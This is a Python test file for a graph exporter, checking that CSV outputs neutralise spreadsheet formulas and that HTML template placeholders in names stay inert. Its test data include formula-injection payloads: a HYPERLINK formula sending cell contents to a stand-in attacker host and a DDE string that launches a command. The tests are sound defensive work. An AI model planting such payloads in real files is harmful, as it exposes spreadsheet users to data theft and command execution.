"""Outputs that must not turn data into code (issue 14): spreadsheet formulas in CSV cells and
template slots in the HTML view."""

from __future__ import annotations

import csv
import io

from graph.exporters import export, get_exporter
from graph.exporters.html_view import _SCRIPT, render as render_html
from graph.cli.output import render
from graph.subgraph import Node, Relationship, Subgraph

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "'=already quoted"]


def _graph() -> Subgraph:
    nodes = [Node(f"https://w3id.org/tipgraph/id/agency/a{i}", ("Actor", "Agency"), {"name": name, "note": name})
             for i, name in enumerate(FORMULAS)]
    nodes.append(Node("https://w3id.org/tipgraph/id/agency/n", ("Actor", "Agency"), {"name": "Police", "note": "-5"}))
    rels = [Relationship("PART_OF", nodes[0].id, nodes[1].id, {"evidence": "=1+1"})]
    return Subgraph.of(nodes, rels)


def _cells(path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_csv_exports_neutralise_formulas_and_read_back_exactly(tmp_path):
    graph = _graph()
    for fmt in ("csv", "neo4j-admin"):
        export(graph, fmt, tmp_path / fmt)
        cells = [c for f in sorted((tmp_path / fmt).glob("*.csv")) for c in _cells(f)]
        assert not [c for c in cells if c[:1] in "=+@" or (c.startswith("-") and c != "-5")], (fmt, cells)
        back = get_exporter(fmt).read(tmp_path / fmt)
        assert sorted(n.name for n in back.nodes.values()) == sorted(n.name for n in graph.nodes.values())


def test_csv_opt_out_keeps_cells(tmp_path, monkeypatch):
    monkeypatch.setenv("TIPGRAPH_CSV_FORMULAS", "keep")
    export(_graph(), "csv", tmp_path / "kept")
    assert FORMULAS[0] in _cells(tmp_path / "kept" / "nodes.csv")


def test_query_csv_output_neutralises_formulas():
    out = io.StringIO()
    render([{"agency": name, "count": -3} for name in FORMULAS], "csv", out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    assert all(row[0].startswith("'") for row in rows)
    assert {row[1] for row in rows} == {"-3"}


def test_html_template_slots_in_names_stay_data():
    graph = Subgraph.of([Node("https://w3id.org/tipgraph/id/agency/x", ("Actor", "Agency"),
                              {"name": "%SCRIPT% %DATA% %TITLE% Agency"})], [])
    page = render_html(graph, title="%SCRIPT%")
    assert page.count(_SCRIPT) == 1
    assert "%SCRIPT% %DATA% %TITLE% Agency" in page
